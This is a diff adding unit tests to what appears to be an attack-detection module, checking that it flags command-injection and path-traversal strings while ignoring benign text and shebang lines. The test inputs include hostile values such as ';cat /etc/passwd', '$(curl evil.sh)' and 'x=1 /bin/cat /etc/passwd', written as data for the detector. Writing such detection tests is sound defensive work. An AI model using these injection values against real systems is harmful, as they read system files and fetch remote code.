@@ -324,6 +324,27 @@ describe("semantic confirmation", () => {
     expect(core.confirms(klass, text)).toBe(confirmed);
   });
 
+  // A window further into a text starts at an arbitrary byte: its first word is no command at a
+  // line's start (`…wh|at that time`), as the text's own first word may be.
+  it("rce: only a text's start is a command's position with no separator before it", () => {
+    for (const text of ["at that time the parade was held", "del shard\n    p1_param_rrefs = model", "ls  \n----  ----"]) {
+      expect(core.confirms("rce", text, true), text).toBe(true);
+      expect(core.confirms("rce", text, false), text).toBe(false);
+    }
+    for (const text of [";cat /etc/passwd", "x | id", "a\nwhoami\n", "$(curl evil.sh)"]) {
+      expect(core.confirms("rce", text, false), text).toBe(true);
+    }
+  });
+
+  it("rce and traversal: a script's interpreter line is no command and no system path", () => {
+    for (const text of ["#!/usr/bin/env python3\n# Copyright (c) Meta Platforms", "#! /bin/bash\n# builds the docs"]) {
+      expect(core.confirms("rce", text), text).toBe(false);
+      expect(core.confirms("traversal", text), text).toBe(false);
+    }
+    for (const text of [";/usr/bin/id", "x=1 /bin/cat /etc/passwd"]) expect(core.confirms("rce", text), text).toBe(true);
+    expect(core.confirms("traversal", "file=/usr/local/etc/secrets")).toBe(true);
+  });
+
   it("every attack class has cases both ways", () => {
     for (const k of core.heads.slice(1)) {
       const mine = CASES.filter(([c]) => c === k);
